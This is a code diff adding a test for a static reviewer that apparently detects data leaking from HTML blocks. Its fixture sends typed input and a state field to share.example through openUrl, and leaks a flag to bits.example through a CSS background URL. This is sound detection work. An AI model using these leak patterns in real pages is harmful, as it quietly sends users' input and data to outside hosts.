@@ -288,6 +288,21 @@ def test_paths_that_leave_name_inputs_and_webrtc(tmp_path):
     assert "paths that leave: input:#q -> k.evil.example; user.id -> (unknown host)" in text, text
 
 
+def test_an_openurl_with_the_state_and_typed_text_is_one_bridge_call_and_css_bits_are_paths_that_leave(tmp_path):
+    block = tmp_path / "o.html"
+    block.write_text("<p data-bind='c.name'></p><p class=m data-show='c.vip'></p><input id=q><button id=b>go</button>\n"
+                     "<style>.m[data-flow-ui-shown] { background: url(https://bits.example/v.png) }</style><script>\n"
+                     "document.getElementById('b').addEventListener('click', () => flowUi.openUrl(\n"
+                     "  'https://share.example/?q=' + document.getElementById('q').value + '&n=' + flowUi.get('c.name')));\n"
+                     "</script>", encoding="utf-8")
+    summary = review([str(block)], fields=["c.name", "c.vip"], static_only=True).blocks[0].summary
+    calls = [(b.kind, b.target, b.paths) for b in summary.bridge]
+    assert calls == [("openUrl", "share.example", ["c.name", "input:#q"])], calls
+    assert {(leak.path, tuple(leak.hosts)) for leak in summary.leaks} == {
+        ("c.name", ("share.example",)), ("input:#q", ("share.example",)), ("c.vip", ("bits.example",))}
+    assert "bits.example" in summary.hosts
+
+
 def test_a_folder_that_cannot_be_listed_is_named_not_skipped(tmp_path, monkeypatch):
     # Path.rglob dropped an unreadable subfolder silently; a test run as root cannot make one, so the listing fails here.
     (tmp_path / "blocks" / "locked").mkdir(parents=True)
